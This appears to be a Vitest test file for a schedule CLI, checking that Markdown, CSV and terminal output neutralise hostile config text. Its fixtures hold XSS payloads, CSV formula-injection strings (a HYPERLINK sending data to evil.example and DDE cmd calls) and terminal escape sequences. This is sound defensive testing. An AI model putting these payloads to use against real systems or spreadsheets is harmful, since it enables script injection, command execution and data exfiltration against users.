import { Parser, HtmlRenderer } from 'commonmark';
import { describe, expect, it } from 'vitest';
import { tcon } from '../helpers/cli.js';
import { mailSandbox } from '../helpers/mail-config.js';

// Text from the config in the outputs people paste or open: Markdown rendered by the CommonMark
// reference implementation (which, unlike GitHub, lets raw HTML and javascript: links through:
// the escaping must hold on its own), CSV opened by a spreadsheet, the table on a terminal.

const hostile = {
  title: '<script>alert(1)</script> [click](javascript:alert(2)) <javascript:alert(3)> **bold** # not a heading',
  note: '<img src=x onerror=alert(4)> [x](javascript:alert(5)) ![i](javascript:alert(6)) `code` _em_ &amp; | ~~s~~',
  skip: '<script>alert(7)</script>',
};

async function sandbox() {
  return mailSandbox((t) =>
    t.replace(
      /members:/,
      `meetings:\n  2027-01-19: { title: ${JSON.stringify(hostile.title)}, note: ${JSON.stringify(hostile.note)} }\n  2027-02-16: { skip: ${JSON.stringify(hostile.skip)} }\n  2027-03-16: { note: "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"x\\")" }\n  2027-04-20: { note: "+cmd|' /C calc'!A0" }\n  2027-05-18: { note: "@SUM(1+1)*cmd|' /C calc'!A0" }\n  2027-06-15: { note: "\\u001b]0;owned\\u0007\\u001b[2J\\u001b[31mred" }\nmembers:`,
    ),
  );
}

describe('markdown escapes titles, notes and reasons', () => {
  it('rendered by commonmark: no script, no element from the config, no javascript: link; the text reads as written', async () => {
    const box = await sandbox();
    try {
      const r = await tcon(['schedule', '--config', box.config, '--year', '2027', '--format', 'markdown', '--no-holidays'], { cwd: box.dir });
      expect(r.code, r.stderr).toBe(0);
      const html = new HtmlRenderer({ safe: false }).render(new Parser().parse(r.stdout));
      expect(html).not.toMatch(/<script|<img|href="javascript:|src="javascript:/i);
      expect(html).not.toMatch(/<h\d/);
      // Every element is one tcon wrote: paragraphs, strong, em, and the join link.
      const tags = new Set([...html.matchAll(/<([a-z0-9]+)/g)].map((m) => m[1]));
      expect([...tags].sort()).toEqual(['a', 'em', 'p', 'strong']);
      for (const href of html.matchAll(/href="([^"]*)"/g)) expect(href[1]).toMatch(/^https:\/\/meet\.example\.org\//);
      // The text survives: the reader sees exactly what the config says.
      const text = html
        .replace(/<[^>]+>/g, '')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&');
      expect(text).toContain(hostile.title);
      expect(text).toContain(hostile.note);
      expect(text).toContain(hostile.skip);
    } finally {
      await box.cleanup();
    }
  });
});

describe('CSV neutralises formula cells (OWASP)', () => {
  it('cells starting with = + - @ are prefixed with a quote and quoted; a spreadsheet reads text', async () => {
    const box = await sandbox();
    try {
      const r = await tcon(['schedule', '--config', box.config, '--year', '2027', '--format', 'csv'], { cwd: box.dir });
      expect(r.code).toBe(0);
      const lines = r.stdout.split('\r\n');
      for (const line of lines) {
        // Split on the commas outside quotes.
        const cells = [...line.matchAll(/("([^"]|"")*"|[^,]*)(,|$)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'));
        for (const cell of cells) expect(cell, line).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(r.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
      expect(r.stdout).toContain(`"'+cmd|' /C calc'!A0"`);
      expect(r.stdout).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
    } finally {
      await box.cleanup();
    }
  });
});

describe('terminal escape codes from the config never reach the table', () => {
  it('ESC, BEL and CSI are shown as ^[ and ^G', async () => {
    const box = await sandbox();
    try {
      const r = await tcon(['schedule', '--config', box.config, '--year', '2027', '--no-holidays'], { cwd: box.dir });
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      expect(r.stdout).toContain('^[]0;owned^G^[[2J^[[31mred');
    } finally {
      await box.cleanup();
    }
  });
});
